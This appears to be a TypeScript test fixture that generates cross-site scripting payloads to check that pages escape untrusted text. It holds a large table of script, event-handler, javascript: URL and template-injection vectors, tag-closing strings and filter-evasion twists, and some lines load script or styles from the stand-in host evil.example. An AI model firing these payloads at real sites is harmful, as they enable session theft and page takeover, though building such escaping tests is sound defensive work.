// Text that would like to be more than text: the n-th of a table of what runs or makes elements where it is not escaped,
// behind what would close the place in which it stands, and twisted as filters are deceived. Pure.

/** RUN is a script that marks the window with the text's number. */
const VECTORS = [
  '<script>RUN</script>',
  '<script src=//evil.example/x.js></script>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<script type=module>RUN</script>',
  '<img src=x onerror=RUN>',
  '<img src="x" onerror="alert(N)" />',
  '<img/src/onerror=RUN>',
  '<image href=x onerror=RUN>',
  '<svg onload=RUN>',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"></use></svg>',
  '<svg><a xlink:href="javascript:RUN"><text y=20>open</text></a></svg>',
  '<svg><style><img src=x onerror=RUN></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=RUN>',
  '<math href="javascript:RUN">open</math>',
  '<math><annotation-xml encoding="text/html"><script>RUN</script></annotation-xml></math>',
  '<template><script>RUN</script></template>',
  '<template shadowrootmode=open><img src=x onerror=RUN></template>',
  '{{constructor.constructor("RUN")()}}',
  '${RUN} <%= RUN %> #{RUN} [[RUN]]',
  '<style>*{background:url(//evil.example/N)}</style>',
  '<link rel=stylesheet href=//evil.example/N.css>',
  '<p style="background:url(javascript:RUN);position:fixed;inset:0">covers all</p>',
  '}body{display:none}@import url(//evil.example/N);',
  '<a href="javascript:RUN">open</a>',
  '<a href="java\tscript:RUN" autofocus onfocus=RUN>open</a>',
  'javascript:RUN',
  ' javascript:alert(N)//',
  'data:text/html,<script>RUN</script>',
  'vbscript:RUN',
  '//evil.example/N',
  '<form action="javascript:RUN"><button>Approve</button></form>',
  '<button formaction="javascript:RUN">Approve</button>',
  '<input autofocus onfocus=RUN>',
  '<input name=token value=stolen>',
  '<iframe srcdoc="<script>parent.ran=N</script>"></iframe>',
  '<iframe src="javascript:RUN"></iframe>',
  '<object data="data:text/html,<script>RUN</script>"></object>',
  '<embed src="javascript:RUN">',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<details open ontoggle=RUN>more</details>',
  '<video><source onerror=RUN></video>',
  '<audio src=x onerror=RUN></audio>',
  '<body onload=RUN>',
  '<marquee onstart=RUN>moves</marquee>',
  '<x-part id=held-list data-list onclick=RUN>part</x-part>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
  '<!--[if IE]><script>RUN</script><![endif]-->',
  '<!-- --!><img src=x onerror=RUN> -->',
  '<![CDATA[<script>RUN</script>]]>',
  '<?xml version="1.0"?><script>RUN</script>',
  '&lt;script&gt;RUN&lt;/script&gt;',
  '&#60;img src=x onerror=RUN&#62;',
  '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
  '%3Cscript%3ERUN%3C/script%3E',
  '\uff1cscript\uff1eRUN\uff1c/script\uff1e',
  '+ADw-script+AD4-RUN+ADw-/script+AD4-',
  '<time datetime=x>never</time><span id=inbox-empty data-part>Nothing waits for you</span>',
] as const

/** What would end the place in which the text stands. */
const CLOSERS = [
  '',
  '">',
  "'>",
  '"autofocus onfocus=RUN x="',
  '</title>',
  '</pre></section></main>',
  '</textarea>',
  '</code></td></tr></table>',
  '</script>',
  '-->',
  '</b></article></div></body></html>',
  '</option></select></form>',
] as const

const BIDI = '\u202e\u2066'
const LONG_WORD_CHARS = 120

const TWISTS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll(/script|onerror|onload/g, (word) => word.toUpperCase()),
  (text) => text.replaceAll('<', '<\0'),
  (text) => `${text}\0${text.slice(0, 9)}`,
  (text) => `${BIDI}${text}\u2069`,
  (text) => `\ud800${text}\udfff`,
  (text) => `${'W'.repeat(LONG_WORD_CHARS)}${text}`,
  (text) => text.replaceAll(' ', '\u2028').replaceAll('=', '=\u00a0'),
  (text) => text.replaceAll(' ', '\n'),
  (text) => `\ufeff${text}\u200b\u0085${text.slice(0, 5)}`,
  (text) => text.replaceAll(' ', '/'),
]

/** What is looked for on the pages: it stays as it is where the text around it is cut or put on one line. */
export const markOf = (n: number): string => `h${String(n).padStart(4, '0')}h`

/** Each vector comes with another closer and another twist each time. */
export function hostileText(n: number): string {
  const round = Math.floor(n / VECTORS.length)
  const at = <Item>(items: readonly Item[], place: number): Item => items[place % items.length]!
  const text = at(CLOSERS, n + round * 5) + at(VECTORS, n)
  const script = n % 2 === 0 ? `top.ran=${n}` : `alert(${n})`
  const written = text.replaceAll('RUN', script).replaceAll(/\bN\b/g, String(n))
  return markOf(n) + at(TWISTS, n + round)(written)
}

/** As long, and of the same letters, blanks and marks of direction, with nothing that means anything to a browser. */
export const harmlessText = (n: number): string =>
  hostileText(n).replaceAll(/[!-,/:-?[-^`{-~\uff1c\uff1e]/g, 'x')

/** On one line, as people's own words have to be. */
export const onOneLine = (text: string, charsMax: number): string =>
  text
    .slice(0, charsMax)
    .toWellFormed()
    .replaceAll(/[\p{Cc}\p{Zl}\p{Zp}\p{Bidi_Control}]+/gu, ' ')
    .trim()
